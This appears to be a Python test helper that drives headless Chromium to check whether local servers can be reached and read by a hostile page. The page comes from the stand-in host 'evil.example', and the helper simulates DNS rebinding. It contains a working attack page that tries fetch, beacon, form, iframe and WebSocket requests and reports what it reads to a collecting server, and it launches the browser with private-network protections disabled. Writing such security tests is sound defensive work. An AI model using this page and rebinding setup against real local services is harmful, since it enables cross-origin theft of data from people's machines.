"""A real Chromium that opens pages of a stranger, and what those pages could send to other servers and read."""

import base64
import contextlib
import http.server
import json
import os
import shutil
import signal
import socket
import socketserver
import subprocess
import threading

import pytest

STRANGER = "evil.example"
PAGE = """<!doctype html><link rel="icon" href="data:,"><body><script>
const plan = __PLAN__, home = "__HOME__", name = "__NAME__", frames = __FRAMES__;
const TRIED_S = 5;
const opened = [];
const within = (promise) => Promise.race([promise, new Promise((end) => setTimeout(end, TRIED_S * 1000, "no answer"))]);
const bytes = (body) => Uint8Array.from(atob(body), (one) => one.charCodeAt(0));
function ended(tag, set) {
  return within(new Promise((end) => {
    const made = document.createElement(tag);
    made.onload = () => end("loaded");
    made.onerror = () => end("error");
    set(made);
    document.body.append(made);
  }));
}
async function asked(one, mode, headers) {
  try {
    const body = one.method === "GET" ? undefined : bytes(one.body);
    const reply = await within(fetch(one.url, {mode, method: one.method, headers, body}));
    if (reply.type === undefined) return {ended: reply};
    return {ended: reply.type, status: reply.status, text: await reply.text()};
  } catch (error) {
    return {ended: "error"};
  }
}
const simple = {"Content-Type": "text/plain"};
const ways = {
  "no-cors": (one) => asked(one, "no-cors", simple),
  "cors": (one) => asked(one, "cors", simple),
  "headers": (one) => asked(one, "cors", one.headers),
};
const ways_of_get = {
  ...ways,
  "image": async (one) => ({ended: await ended("img", (made) => { made.src = one.url; })}),
  "script": async (one) => ({ended: await ended("script", (made) => { made.src = one.url; })}),
  "frame": async (one) => framed((made) => { made.src = one.url; }),
  "socket": async (one) => ({ended: await within(new Promise((end) => {
    const made = new WebSocket(one.url.replace("http", "ws"));
    made.onopen = () => end("open");
    made.onerror = () => end("error");
  }))}),
};
const ways_of_post = {
  ...ways,
  "beacon": async (one) => {
    const sent = navigator.sendBeacon(one.url, new Blob([bytes(one.body)], {type: "text/plain"}));
    return {ended: sent ? "sent" : "error"};
  },
  "form": async (one) => framed((made) => {
    const text = atob(one.body), form = document.createElement("form"), field = document.createElement("input");
    Object.assign(form, {method: "POST", action: one.url, enctype: "text/plain", target: made.name});
    Object.assign(field, {name: text.slice(0, -1) + (text === "{}" ? "" : ",") + '"x":"', value: '"}'});
    form.append(field);
    document.body.append(form);
    form.submit();
  }),
};
async function framed(go) {
  const made = document.createElement("iframe");
  made.name = "frame" + opened.push(made);
  document.body.append(made);
  const loaded = new Promise((end) => { made.addEventListener("load", () => end("loaded"), {once: true}); });
  go(made);
  const how = await within(loaded);
  try {
    return {ended: how, text: made.contentDocument.body.innerText};
  } catch (error) {
    return {ended: how};
  }
}
async function all(requests) {
  const answers = [];
  for (const table of [ways_of_get, ways_of_post])
    for (const [how, way] of Object.entries(table))
      for (const one of requests)
        if ((one.method === "GET") === (table === ways_of_get) && (how !== "form" || atob(one.body).startsWith("{"))
            && (["GET", "POST"].includes(one.method) || how !== "no-cors"))
          answers.push({how, method: one.method, url: one.url, text: null, ...(await way(one))});
  return answers;
}
for (const url of frames)
  document.body.append(Object.assign(document.createElement("iframe"), {src: url}));
Promise.all(plan.map(all)).then((answers) => fetch(home, {
  method: "POST", mode: "no-cors", body: JSON.stringify({name, answers: answers.flat()})}));
</script>"""


def chromium():
    """The path of Chromium. Skips the test where there is none."""
    found = os.environ.get("METRONOME_CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome")
    return found or pytest.skip("no Chromium in PATH or METRONOME_CHROMIUM")


def attempt(method, url, body=b"", **headers):
    """A request for the pages. They send it in each way that a browser has, and in one of them with the headers."""
    return {"method": method, "url": url, "body": base64.b64encode(body).decode(), "headers": headers}


def attack(folder, plan):
    """Have Chromium open the stranger's page from an address of this machine, from a host name, and from a host name
    that leads to the attacked servers once the page is there (DNS rebinding).

    `plan`: lists of attempts at `http://127.0.0.1:PORT`, each made in its order. Returns {page: answers}, each with
    how, method, url, how it ended, and the text that the page could read.
    """
    ports = sorted({_port(one["url"]) for requests in plan for one in requests})
    with contextlib.ExitStack() as stack:
        home = stack.enter_context(_serving(_Home))
        rules = []
        for port in ports:
            door = stack.enter_context(_serving(_Door))
            own = [requests for requests in plan if _port(requests[0]["url"]) == port]
            door.target = port
            door.page = _page(_moved(own), home, f"rebound {port}")
            rules.append(f"MAP {STRANGER}:{port} 127.0.0.1:{door.port}")
        frames = [f"http://{STRANGER}:{port}/stranger" for port in ports]
        home.pages = {
            "address": _page(plan, home, "address"),
            "name": _page(plan + _moved(plan), home, "name", frames),
        }
        with _browser(f"http://127.0.0.1:{home.port}/address", folder / "address", []) as process:
            home.wait({"address"}, process)
        rules.append(f"MAP {STRANGER} 127.0.0.1")
        with _browser(f"http://{STRANGER}:{home.port}/name", folder / "name", rules) as process:
            home.wait({"name", *(f"rebound {port}" for port in ports)}, process)
        return home.answers


def _port(url):
    return int(url.split(":")[2].split("/")[0])


def _moved(plan):
    return [[one | {"url": one["url"].replace("127.0.0.1", STRANGER)} for one in requests] for requests in plan]


def _page(plan, home, name, frames=()):
    values = {"PLAN": json.dumps(plan), "HOME": f"http://127.0.0.1:{home.port}/", "NAME": name}
    values["FRAMES"] = json.dumps(list(frames))
    page = PAGE
    for key, value in values.items():
        page = page.replace(f"__{key}__", value.replace("<", "\\u003c"))
    return page.encode()


@contextlib.contextmanager
def _browser(url, folder, rules):
    command = [chromium(), "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--no-proxy-server"]
    # a browser that asks nobody before a page reaches this machine
    command += ["--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"]
    command += [f"--user-data-dir={folder}", f"--host-resolver-rules={','.join(rules)}", url]
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    process = subprocess.Popen(command, start_new_session=True, **quiet)
    try:
        yield process
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


@contextlib.contextmanager
def _serving(kind):
    server = kind()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


class _Quiet(http.server.BaseHTTPRequestHandler):
    def reply(self, body=b"", kind="text/html; charset=utf-8"):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def log_message(self, *_):
        pass


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, handler):
        super().__init__(("127.0.0.1", 0), handler)
        self.port = self.server_port


class _Home(_Server):
    """The stranger's own server: its pages, and what they report."""

    def __init__(self):
        super().__init__(_HomeHandler)
        self.pages = {}
        self.answers = {}
        self._changed = threading.Condition()

    def take(self, report):
        with self._changed:
            self.answers[report["name"]] = report["answers"]
            self._changed.notify_all()

    def wait(self, names, process, timeout_s=240.0):
        with self._changed:
            done = self._changed.wait_for(lambda: names <= self.answers.keys() or process.poll() is not None, timeout_s)
        assert names <= self.answers.keys(), (done, process.poll(), names - self.answers.keys())


class _HomeHandler(_Quiet):
    def do_GET(self):  # noqa: N802
        self.reply(self.server.pages.get(self.path[1:], b""))

    def do_POST(self):  # noqa: N802
        self.server.take(json.loads(self.body()))
        self.reply()


class _Door(socketserver.ThreadingTCPServer):
    """What the stranger's host name leads to: his page the first time, afterwards the attacked server, each byte as
    the browser sent it."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _DoorHandler)
        self.port = self.server_address[1]
        self.target = 0
        self.page = b""


class _DoorHandler(socketserver.BaseRequestHandler):
    def handle(self):
        with contextlib.suppress(OSError):
            first = self.request.recv(65536)
            if first.startswith(b"GET /stranger "):
                head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self.server.page)}\r\n"
                return self.request.sendall(head.encode() + b"Connection: close\r\n\r\n" + self.server.page)
            with socket.create_connection(("127.0.0.1", self.server.target)) as target:
                target.sendall(first)
                back = threading.Thread(target=_pass_on, args=(target, self.request), daemon=True)
                back.start()
                _pass_on(self.request, target)
                back.join(10)
        return None


def _pass_on(source, sink):
    with contextlib.suppress(OSError):
        while data := source.recv(65536):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)


class OpenServer(_Server):
    """A server that takes requests from anybody, which is the control of an attack; `taken`: (method, path, body)."""

    SECRET = "what only its owner may read"

    def __init__(self):
        super().__init__(_OpenHandler)
        self.taken = []


class _OpenHandler(_Quiet):
    def do_GET(self):  # noqa: N802
        self.server.taken.append((self.command, self.path, self.body(), self.headers.get("Authorization")))
        self.reply(self.server.SECRET.encode(), "text/plain")

    do_POST = do_GET  # noqa: N815


def open_server():
    """An `OpenServer` that runs while the block does."""
    return _serving(OpenServer)
